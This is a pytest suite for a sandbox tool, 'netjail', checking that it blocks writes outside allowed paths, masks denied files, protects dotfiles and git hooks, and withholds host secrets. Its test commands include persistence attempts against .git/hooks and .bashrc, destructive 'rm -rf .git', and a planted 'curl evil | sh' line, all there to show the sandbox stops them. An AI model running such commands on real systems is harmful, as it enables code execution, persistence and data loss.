"""The filesystem jail: writes only where allowed, denyRead masked, mandatory denies, private /tmp, own state."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from tests.support.netjail import Netjail

pytestmark = pytest.mark.nonroot


def test_writes_inside_allow_write_land_and_outside_fail(netjail: Netjail, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    cfg = netjail.settings(filesystem={"allowWrite": ["."]})
    result = netjail.run(
        "-s", str(cfg), "-c",
        f"echo in > inside.txt; echo out > {outside}/x.txt; echo rc=$?; echo home > ~/netjail-test-$$ ; echo rc=$?",
    )  # fmt: skip
    assert (netjail.work / "inside.txt").read_text() == "in\n"
    assert not (outside / "x.txt").exists()
    assert result.stdout.count("rc=1") == 2, result.explain()
    assert "Read-only file system" in result.stderr


def test_deny_write_inside_allow_write(netjail: Netjail) -> None:
    (netjail.work / "locked").mkdir()
    (netjail.work / "locked" / "f").write_text("original")
    cfg = netjail.settings(filesystem={"allowWrite": ["."], "denyWrite": ["locked"]})
    result = netjail.run("-s", str(cfg), "-c", "echo changed > locked/f; echo rc=$?; echo ok > free.txt")
    assert "rc=1" in result.stdout, result.explain()
    assert (netjail.work / "locked" / "f").read_text() == "original"
    assert (netjail.work / "free.txt").read_text() == "ok\n"


def test_deny_read_masks_files_and_directories_allow_read_reopens(netjail: Netjail) -> None:
    secrets = netjail.work / "secrets"
    (secrets / "public").mkdir(parents=True)
    (secrets / "key").write_text("TOPSECRET")
    (secrets / "public" / "readme").write_text("fine")
    (netjail.work / "token").write_text("TOKEN")
    (netjail.work / "control").write_text("visible")
    cfg = netjail.settings(
        filesystem={"allowWrite": [], "denyRead": ["secrets", "token"], "allowRead": ["secrets/public"]}
    )
    result = netjail.run(
        "-s", str(cfg), "-c",
        "cat secrets/key; cat token; cat secrets/public/readme; echo; cat control; ls secrets",
    )  # fmt: skip
    assert "TOPSECRET" not in result.stdout and "TOKEN" not in result.stdout, result.explain()
    assert "fine" in result.stdout and "visible" in result.stdout
    assert (secrets / "key").read_text() == "TOPSECRET"


def test_deny_read_holds_through_a_symlink(netjail: Netjail) -> None:
    (netjail.work / "real").mkdir()
    (netjail.work / "real" / "key").write_text("TOPSECRET")
    (netjail.work / "link").symlink_to(netjail.work / "real")
    cfg = netjail.settings(filesystem={"allowWrite": [], "denyRead": ["link"]})
    result = netjail.run("-s", str(cfg), "-c", "cat real/key link/key")
    assert "TOPSECRET" not in result.stdout, result.explain()


@pytest.mark.parametrize(
    "target",
    [".bashrc", ".git/hooks/pre-commit", ".git/config", ".gitmodules", ".vscode/tasks.json", "sub/.bashrc"],
)
def test_mandatory_denies_protect_existing_files_in_writable_paths(netjail: Netjail, target: str) -> None:
    subprocess.run(["git", "init", "-q", str(netjail.work)], check=True)
    path = netjail.work / target
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("original\n")
    cfg = netjail.settings(filesystem={"allowWrite": ["."]})
    result = netjail.run("-s", str(cfg), "-c", f"echo pwned >> {target}; echo rc=$?; echo fine > control.txt")
    assert path.read_text() == "original\n", result.explain()
    assert "rc=1" in result.stdout
    assert (netjail.work / "control.txt").read_text() == "fine\n"


def test_settings_file_and_state_are_protected(netjail: Netjail) -> None:
    cfg_in_work = netjail.work / "netjail.json"
    original = netjail.settings(filesystem={"allowWrite": ["."]}).read_text()
    cfg_in_work.write_text(original)
    result = netjail.run(
        "-s", str(cfg_in_work), "-c",
        f"echo '{{}}' > netjail.json; echo rc=$?; ls {netjail.state}/runs | wc -l; cat {netjail.state}/runs/*/flows.jsonl; echo end",
    )  # fmt: skip
    assert "rc=1" in result.stdout, result.explain()
    assert cfg_in_work.read_text() == original
    lines = result.stdout.splitlines()
    assert lines[1] == "0" and lines[2] == "end", "the state directory must look empty inside"


def test_only_the_ca_certificate_is_visible_inside(netjail: Netjail) -> None:
    result = netjail.run(
        "-s", str(netjail.settings()), "-c",
        "grep -c 'BEGIN CERTIFICATE' /run/netjail/ca.pem; grep -l 'PRIVATE KEY' /run/netjail/* /etc/ssl/certs/ca-certificates.crt; echo done",
    )  # fmt: skip
    assert result.stdout.splitlines() == ["1", "done"], result.explain()


def test_private_tmp(netjail: Netjail) -> None:
    host_file = Path(f"/tmp/netjail-host-only-{netjail.tmp_path.name}")
    host_file.write_text("host")
    try:
        result = netjail.run(
            "-s", str(netjail.settings()), "-c",
            f"echo x > /tmp/netjail-private-tmp-test && ls /tmp; cat {host_file}; echo rc=$?",
        )  # fmt: skip
    finally:
        host_file.unlink()
    assert "netjail-private-tmp-test" in result.stdout.split(), result.explain()
    assert "rc=1" in result.stdout and host_file.name not in result.stdout
    assert not Path("/tmp/netjail-private-tmp-test").exists()


def test_host_processes_are_invisible(netjail: Netjail) -> None:
    result = netjail.run("-s", str(netjail.settings()), "-c", "ls /proc | grep -c '^[0-9]'")
    assert int(result.stdout) <= 4, result.explain()


def test_srt_settings_file_with_every_key_runs_with_warnings(netjail: Netjail, http_origin) -> None:
    """srt's own example of every key, less the five keys netjail refuses (external proxies)."""
    from tests.support.netjail import REPO

    settings = json.loads((REPO / "tests" / "data" / "srt-every-key.json").read_text())
    network = settings["network"]
    for refused in ("httpProxyPort", "socksProxyPort", "mitmProxy"):
        del network[refused]
    network["parentProxy"].pop("http"), network["parentProxy"].pop("https")
    settings["network"]["hosts"] = {"allowed.test": "127.0.0.1"}
    settings["network"]["allowedDomains"] = [*settings["network"]["allowedDomains"], "allowed.test"]
    path = netjail.tmp_path / "srt.json"
    path.write_text(json.dumps(settings))
    result = netjail.run("-s", str(path), "-c", f"curl -sS http://allowed.test:{http_origin.port}/")
    assert result.returncode == 0, result.explain()
    assert result.stdout == "hello from http-origin\n"
    assert "warning:" in result.stderr


def test_host_secrets_in_the_environment_are_not_inherited(netjail: Netjail) -> None:
    env = {
        **netjail.env,
        "AWS_SECRET_ACCESS_KEY": "hunter2",
        "GITHUB_TOKEN": "ghp_x",
        "SSH_AUTH_SOCK": "/x",
        "MY_FLAG": "on",
    }
    script = "echo ${AWS_SECRET_ACCESS_KEY:-unset} ${GITHUB_TOKEN:-unset} ${SSH_AUTH_SOCK:-unset} ${MY_FLAG:-unset} ${HOME:+home}"
    result = netjail.run("-s", str(netjail.settings()), "-c", script, env=env)
    assert result.stdout.split() == ["unset", "unset", "unset", "unset", "home"], result.explain()

    passing = netjail.settings(envPassthrough=["MY_FLAG"])
    result = netjail.run("-s", str(passing), "-c", script, env=env)
    assert result.stdout.split() == ["unset", "unset", "unset", "on", "home"], result.explain()


@pytest.mark.parametrize("route", ["rename-parent", "rename-file", "replace-parent"])
def test_protected_paths_survive_renaming_a_parent(netjail: Netjail, route: str) -> None:
    """F3: `mv .git x; mkdir -p .git/hooks` must not give a writable .git/hooks on the host."""
    subprocess.run(["git", "init", "-q", str(netjail.work)], check=True)
    hook = netjail.work / ".git" / "hooks" / "pre-commit"
    hook.write_text("original\n")
    attack = {
        "rename-parent": "mv .git moved; mkdir -p .git/hooks && echo pwned > .git/hooks/pre-commit",
        "rename-file": "mv .git/hooks .git/old-hooks; mkdir .git/hooks && echo pwned > .git/hooks/pre-commit",
        "replace-parent": "rm -rf .git; mkdir -p .git/hooks && echo pwned > .git/hooks/pre-commit",
    }[route]
    cfg = netjail.settings(filesystem={"allowWrite": ["."]})
    result = netjail.run("-s", str(cfg), "-c", f"{attack}; echo control > control.txt")
    assert hook.read_text() == "original\n", result.explain()
    assert not (netjail.work / "moved").exists()
    assert (netjail.work / "control.txt").read_text() == "control\n"


def test_allow_write_inside_a_deny_read_region_is_usable(netjail: Netjail) -> None:
    (netjail.work / "top" / "proj").mkdir(parents=True)
    (netjail.work / "top" / "secret").write_text("TOPSECRET")
    cfg = netjail.settings(filesystem={"allowWrite": ["top/proj"], "denyRead": ["top"]})
    result = netjail.run("-s", str(cfg), "-c", "echo built > top/proj/out; cat top/secret; cat top/proj/out")
    assert result.stdout.strip() == "built", result.explain()
    assert (netjail.work / "top" / "proj" / "out").read_text() == "built\n"


def test_netjail_settings_cannot_be_planted_for_the_next_run(netjail: Netjail, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = {**netjail.env, "HOME": str(home)}
    env.pop("XDG_CONFIG_HOME", None)
    cfg = netjail.settings(filesystem={"allowWrite": [str(home)]})
    result = netjail.run(
        "-s", str(cfg), "-c",
        "mkdir -p ~/.config/netjail; echo '{}' > ~/.config/netjail/settings.json; echo rc=$?; echo ok > ~/control",
        env=env,
    )  # fmt: skip
    assert "rc=1" in result.stdout, result.explain()
    assert not (home / ".config" / "netjail" / "settings.json").exists()
    assert (home / "control").read_text() == "ok\n"


def test_protected_names_that_did_not_exist_are_quarantined_after_the_run(netjail: Netjail) -> None:
    """F3 for paths that do not exist yet: no stub is planted; what the command creates there is moved out."""
    subprocess.run(["git", "init", "-q", str(netjail.work)], check=True)
    subprocess.run(["rm", "-rf", str(netjail.work / ".git" / "hooks")], check=True)
    cfg = netjail.settings(filesystem={"allowWrite": ["."]})
    result = netjail.run(
        "-s", str(cfg), "-c",
        "ls -A; echo 'curl evil | sh' > .bashrc; mkdir -p .vscode .git/hooks; echo '{}' > .vscode/tasks.json; "
        "echo hook > .git/hooks/post-checkout; echo hook-rc=$?; echo kept > notes.txt",
    )  # fmt: skip
    assert result.returncode == 0, result.explain()
    # a missing .git/hooks is a read-only placeholder during the run (issue 10), removed afterwards
    assert "hook-rc=1" in result.stdout
    assert ".bashrc" not in result.stdout.split(), "no stub file is planted in the user's tree"
    assert not (netjail.work / ".bashrc").exists() and not (netjail.work / ".vscode").exists()
    assert not (netjail.work / ".git" / "hooks").exists()
    assert (netjail.work / "notes.txt").read_text() == "kept\n"
    quarantined = [r for r in result.records if r["event"] == "quarantine"]
    assert {Path(r["path"]).name for r in quarantined} == {".bashrc", ".vscode"}
    assert (
        Path(next(r["moved_to"] for r in quarantined if r["path"].endswith(".bashrc")))
    ).read_text() == "curl evil | sh\n"
    assert result.stderr.count("(a protected name)") == 2


def test_entries_that_do_not_exist_are_said_at_start_with_their_resolved_path(netjail: Netjail) -> None:
    (netjail.work / "present").mkdir()
    (netjail.work / "sub").mkdir()
    cfg = netjail.settings(
        filesystem={
            "allowWrite": [".", "present", "missing-dir", "/nonexistent-netjail-test/*.cache"],
            "allowRead": ["also-missing"],
            "denyRead": ["~/.netjail-test-absent-credentials", "present"],
        }
    )
    result = netjail.run("-s", str(cfg), "-c", "true", cwd=netjail.work / "sub")
    assert result.returncode == 0, result.explain()
    warnings = [line for line in result.stderr.splitlines() if line.startswith("netjail: warning:")]
    # relative entries resolve against the working directory (srt's meaning): `present` is sub/present here
    assert any(
        f"'present' is {netjail.work}/sub/present, which does not exist (relative" in w for w in warnings
    )
    assert any(
        f"'missing-dir' is {netjail.work}/sub/missing-dir, which does not exist" in w for w in warnings
    )
    assert any(
        "'/nonexistent-netjail-test/*.cache' is" in w and "which matches nothing" in w for w in warnings
    )
    assert any(
        f"filesystem.allowRead: 'also-missing' is {netjail.work}/sub/also-missing" in w for w in warnings
    )
    assert not any("denyRead" in w or "'.'" in w for w in warnings), warnings  # no flood; "." exists
    control = netjail.run("-s", str(cfg), "-c", "true", cwd=netjail.work)  # from the settings' own directory
    assert not any("'present'" in line for line in control.stderr.splitlines()), control.explain()


def test_absent_deny_read_entries_are_noted_by_debug_and_explain(netjail: Netjail) -> None:
    cfg = netjail.settings(filesystem={"denyRead": ["~/.netjail-test-absent-credentials"]})
    note = (
        "~/.netjail-test-absent-credentials ("
        + str(Path.home())
        + "/.netjail-test-absent-credentials): absent: "
    )
    note += "readable if created during the run"
    debug = netjail.run("-d", "-s", str(cfg), "-c", "true")
    assert debug.returncode == 0 and "jail.absent" in debug.stderr and note in debug.stderr, debug.explain()
    warned = [line for line in debug.stderr.splitlines() if line.startswith("netjail: warning:")]
    assert not any("netjail-test-absent" in line for line in warned), warned  # said, not warned
    shown = netjail.command("explain", "-s", str(cfg))
    assert note in shown.stdout, shown.stdout
